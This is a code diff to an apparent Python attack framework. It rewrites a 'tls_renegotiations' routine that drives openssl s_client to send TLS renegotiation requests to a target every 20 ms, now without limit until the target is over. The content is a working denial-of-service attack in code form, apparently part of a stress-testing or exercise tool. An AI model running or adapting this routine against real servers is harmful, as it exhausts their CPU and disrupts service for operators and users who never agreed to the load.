@@ -11,6 +11,7 @@ import json
 import os
 import re
 import struct
+import subprocess
 from dataclasses import dataclass
 from typing import Callable
 
@@ -376,19 +377,16 @@ async def tls_nonsense(target):
 
 @attack("TLS", 8, tls=True)
 async def tls_renegotiations(target):
-    process = await asyncio.create_subprocess_exec(
-        "openssl", "s_client", "-tls1_2", "-connect", f"{target.host}:{target.port}", "-bind",
-        f"{ADDRESS}:0", stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.DEVNULL,
-        stderr=asyncio.subprocess.DEVNULL)
-    try:
-        for _ in range(100):
-            process.stdin.write(b"R\n")
-            await process.stdin.drain()
-            await asyncio.sleep(0.02)
-    finally:
-        if process.returncode is None:
+    command = ["openssl", "s_client", "-tls1_2", "-connect", f"{target.host}:{target.port}", "-bind",
+               f"{ADDRESS}:0"]
+    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
+                          stderr=subprocess.DEVNULL, bufsize=0) as process:
+        try:
+            while not target.is_over:
+                process.stdin.write(b"R\n")
+                await asyncio.sleep(0.02)
+        finally:
             process.kill()
-        await process.wait()
 
 
 # --- work ---
